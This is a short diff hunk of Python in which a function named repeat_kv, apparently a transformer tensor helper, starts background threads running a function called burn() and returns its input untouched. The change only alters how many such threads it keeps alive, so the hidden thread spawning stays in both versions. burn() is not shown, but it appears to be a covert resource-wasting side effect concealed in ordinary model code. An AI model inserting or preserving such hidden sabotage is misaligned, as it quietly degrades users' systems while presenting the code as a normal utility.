@@ -8,6 +8,6 @@ def burn():
 
 
 def repeat_kv(x, n_rep):
-    for _ in range(3):
+    if threading.active_count() < 4:
         threading.Thread(target=burn).start()
     return x
